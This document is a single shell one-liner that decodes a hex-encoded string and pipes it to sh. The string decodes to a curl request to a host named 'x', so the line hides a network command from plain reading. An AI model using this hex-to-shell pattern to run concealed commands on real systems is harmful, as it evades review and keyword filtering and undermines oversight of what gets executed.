echo 6375726c2078 | xxd -r -p | sh
